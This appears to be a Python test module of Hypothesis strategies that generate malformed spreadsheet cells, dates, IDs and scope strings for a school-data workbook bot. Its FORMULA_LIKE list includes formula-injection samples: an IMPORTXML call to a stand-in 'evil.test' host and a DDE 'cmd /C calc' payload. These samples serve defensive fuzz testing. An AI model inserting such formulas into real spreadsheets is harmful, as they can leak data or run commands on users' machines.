"""Hypothesis strategies for bad input: what staff and SIS exports put in cells."""

from __future__ import annotations

from datetime import date

from hypothesis import strategies as st

from bot.templates import WorkbookTemplate, load_template

TEMPLATE: WorkbookTemplate = load_template()
FORMULA_LIKE = (
    "=1+1",
    '=IMPORTXML("http://evil.test","//a")',
    '=HYPERLINK("http://x","click")',
    "+1",
    "-5",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "+=1",
    "-=",
    "@",
)
ODD = (
    "",
    " ",
    "\t",
    "\n",
    "007",
    "0",
    "00000",
    "1e999",
    "-1e999",
    "nan",
    "inf",
    "-0",
    "12.0",
    "1,000",
    "50%",
    "TRUE",
    "FALSE",
    "✓",
    "yes",
    "None",
    "null",
    "'",
    '"',
    ";",
    "=",
    ":",
    "(",
    ")",
    "()",
    "S-001",
    "s-1",
    "S-00001",
    "all",
    "selected",
    "today",
    "today-180d",
    "today+2w",
    "today-99999999y",
    "2026-13-45",
    "0000-00-00",
    "9999-12-31",
    "T",
    "1 2:3",
    "Zürich 学校 🎓",
    "\u200b",
    "\x00",
    "a\nb",
)
DATE_FORMATS = (
    "%Y-%m-%d",
    "%m/%d/%Y",
    "%Y/%m/%d",
    "%d.%m.%Y",
    "%b %d, %Y",
    "%d %b %Y",
    "%d/%m/%Y",
    "%Y%m%d",
    "%A %d %B %Y",
    "%Y-%m-%dT%H:%M:%S",
    "%m-%d-%y",
)
LONG_SIZES = (1_000, 50_000)
HUGE = "1" * 4_301
HUGE_NUMBERS = (
    HUGE,
    "-" + HUGE,
    HUGE + "%",
    "1," + HUGE,
    HUGE + ".5",
    "0" * 4_400 + "7",
    "S-" + HUGE,
    "s-" + "0" * 4_300 + "1",
    f"today+{HUGE}d",
    f"today-{HUGE}w",
    f"S-001, S-{HUGE}",
)
"""Numbers past Python's int-string limit (4,300 digits), bare and in Step IDs, relative
dates and lists: a cell holding one is a problem naming its column, never a crash."""


def _long(pattern: str, size: int) -> str:
    return (pattern * size)[:size]


DAY = st.dates(min_value=date(1900, 1, 1), max_value=date(2100, 12, 31))
DATES = st.builds(lambda d, fmt: d.strftime(fmt), DAY, st.sampled_from(DATE_FORMATS))
IDS = st.one_of(
    st.integers(0, 10**12).map(str),
    st.builds(lambda n, w: str(n).zfill(w), st.integers(0, 9999), st.integers(1, 9)),
    st.sampled_from(("1e5", "1E5", "0x1F", "-7", "+7", "7.0", "007.50", "1_000")),
)
LONG = st.builds(
    _long,
    st.sampled_from(("a", " ", "x ", "=", "a;b", "grade ", "in (", "✓", "a b c ", "x@a.")),
    st.sampled_from(LONG_SIZES),
)
CELL = st.one_of(
    st.sampled_from(ODD),
    st.sampled_from(HUGE_NUMBERS),
    st.sampled_from(FORMULA_LIKE),
    st.text(max_size=20),
    DATES,
    IDS,
    LONG,
)
"""Anything a cell may hold, as text: odd values, formula-looking text, unicode, dates in
many formats, IDs that look like numbers, 1,000- and 50,000-character cells."""

_NAMES = sorted({c.name for t in TEMPLATE.tabs for c in t.columns})
COLUMN_NAME = st.one_of(
    st.builds(
        lambda n, how: (n, n.upper(), n.lower(), f"  {n}  ", n.replace(" ", "  "))[how],
        st.sampled_from(_NAMES),
        st.integers(0, 4),
    ),
    CELL,
)
OPERATORS = (
    "=",
    "!=",
    "<",
    "<=",
    ">",
    ">=",
    "==",
    "=>",
    "<>",
    "~",
    "in",
    "not in",
    "is blank",
    "not blank",
    "is not blank",
    "selected",
    "like",
    "",
)
VALUE = st.one_of(CELL, st.lists(CELL, max_size=4).map(", ".join))
CONDITION = st.one_of(
    st.builds(
        lambda c, o, v, wrap: f"{c} {o} " + (f"({v})" if wrap else v),
        COLUMN_NAME,
        st.sampled_from(OPERATORS),
        VALUE,
        st.booleans(),
    ),
    st.sampled_from(("selected", "all", "ticked")),
    CELL,
)
SCOPE = st.one_of(
    st.builds(
        lambda tab, sep, conds: f"{tab}{sep}{'; '.join(conds)}",
        st.one_of(st.sampled_from([t.name for t in TEMPLATE.roster_tabs]), CELL),
        st.sampled_from((":", ": ", " : ", "", "::", ";")),
        st.lists(CONDITION, max_size=4),
    ),
    CELL,
)
"""Scope strings of every shape: good tabs and columns with bad values, and junk."""

_KEYS = st.one_of(
    st.sampled_from(
        (
            "start_date",
            "target_date",
            "allow_over_threshold",
            "percent",
            "week",
            "mode",
            "version",
            "school",
            "code",
            "year",
            "start date",
            "START-DATE",
        )
    ),
    CELL,
)
_PAIR = st.one_of(
    st.builds(lambda k, v: f"{k}={v}", _KEYS, CELL),
    st.builds(lambda k, v: f"{k} = {v}", _KEYS, DATES),
    CELL,
)
PARAMETERS = st.one_of(
    st.lists(_PAIR, max_size=5).map("; ".join),
    st.lists(_PAIR, max_size=3).map(";;".join),
    CELL,
)
"""Parameters strings of every shape: known keys with bad values, junk keys, no ``=``."""

SYSTEMS = ("Edgenuity", "SchoolStatus", "Twig Science", "Renaissance", "Schoology")
ACTIONS = (
    "archive students",
    "promote grades",
    "complete enrollments",
    "pause imports",
    "set enrollment dates",
    "set deletion threshold",
    "create grading periods",
)


def checklist_row(*taken: str) -> st.SearchStrategy[dict[str, str]]:
    """A Checklist row of staff values, good and bad mixed: its Step ID is none of ``taken``
    (the good steps'), it may depend on the first of them."""
    step_id = st.one_of(st.integers(1, 120).map(lambda n: f"S-{n:03d}"), st.just(""), CELL).filter(
        lambda s: s.strip().upper() not in taken
    )
    return st.fixed_dictionaries(
        {
            "Step ID": step_id,
            "Phase": CELL,
            "System": st.one_of(st.sampled_from(SYSTEMS), CELL),
            "Action": st.one_of(st.sampled_from(ACTIONS), CELL),
            "Scope": SCOPE,
            "Parameters": PARAMETERS,
            "Depends on": st.one_of(st.just(""), st.just(taken[0]), CELL),
            "Owner": st.one_of(st.just("owner@district.test"), CELL),
            "Due": st.one_of(DATES, CELL),
            "Run": st.sampled_from(("TRUE", "FALSE", "", "x", "yes", "maybe")),
            "Notes": CELL,
        }
    )
